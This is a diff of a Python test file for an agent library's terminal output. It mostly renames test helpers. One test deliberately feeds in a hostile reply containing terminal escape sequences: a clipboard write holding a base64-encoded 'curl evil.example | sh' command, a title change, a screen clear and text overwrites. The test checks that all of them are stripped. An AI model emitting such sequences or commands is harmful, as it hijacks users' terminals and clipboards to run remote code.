@@ -7,11 +7,11 @@ import io
 from bettong_nb import Deny
 from bettong_nb.records import terminal
 from bettong_nb.providers.scripted import Scripted
-from test_notebook_display import _agent, _mixed_run
+from support.echo_runs import echo_agent, mixed_run
 
 
 def test_result_text_reads_well_in_a_terminal():
-    text = terminal.result_text(_mixed_run())
+    text = terminal.result_text(mixed_run())
     lines = text.splitlines()
     assert lines[0] == "All **done**"
     assert lines[1].startswith("  · echo(text=") and "→ ok" in lines[1]
@@ -23,7 +23,7 @@ def test_result_text_reads_well_in_a_terminal():
 def test_text_view_prints_the_stream_tool_lines_and_usage():
     out = io.StringIO()
     view = terminal.TextView(stream=True, file=out)
-    result = _agent(Scripted([{"text": "Looking.", "tool_calls": [("echo", {"text": "a"})]}, "Done."]),
+    result = echo_agent(Scripted([{"text": "Looking.", "tool_calls": [("echo", {"text": "a"})]}, "Done."]),
                     on_event=view, stream=True).run("go")
     view.finish(result)
     lines = out.getvalue().splitlines()
@@ -37,7 +37,7 @@ def test_text_view_says_why_a_call_failed_or_was_denied():
     out = io.StringIO()
     view = terminal.TextView(stream=False, file=out)
     deny = lambda r: Deny("not that one") if r.args.get("text") == "no" else True  # noqa: E731
-    result = _agent(Scripted([[("echo", {"text": "boom"}), ("echo", {"text": "no"})], "Done."]),
+    result = echo_agent(Scripted([[("echo", {"text": "boom"}), ("echo", {"text": "no"})], "Done."]),
                     on_event=view, approve_fn=deny).run("go")
     view.finish(result)
     lines = out.getvalue().splitlines()
@@ -50,12 +50,12 @@ def test_text_view_says_why_a_call_failed_or_was_denied():
 def test_printing_a_result_sends_no_control_sequence_to_the_terminal():
     hostile = ("Done.\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07 \x1b]0;pwned\x07\x1b[2J"
                "\u202eevil\u202c\r\x1b[1Aover")
-    result = _agent(Scripted([hostile])).run("go")
+    result = echo_agent(Scripted([hostile])).run("go")
     for text in (str(result), terminal.result_text(result)):
         assert "\x1b" not in text and "\x07" not in text and "\u202e" not in text and "\r" not in text
         assert "Done." in text and "evil" in text and "over" in text  # the words stay, the controls go
     out = io.StringIO()
     view = terminal.TextView(stream=True, file=out)
-    streamed = _agent(Scripted([hostile]), on_event=view, stream=True).run("go")
+    streamed = echo_agent(Scripted([hostile]), on_event=view, stream=True).run("go")
     view.finish(streamed)
     assert "\x1b" not in out.getvalue() and "\u202e" not in out.getvalue()
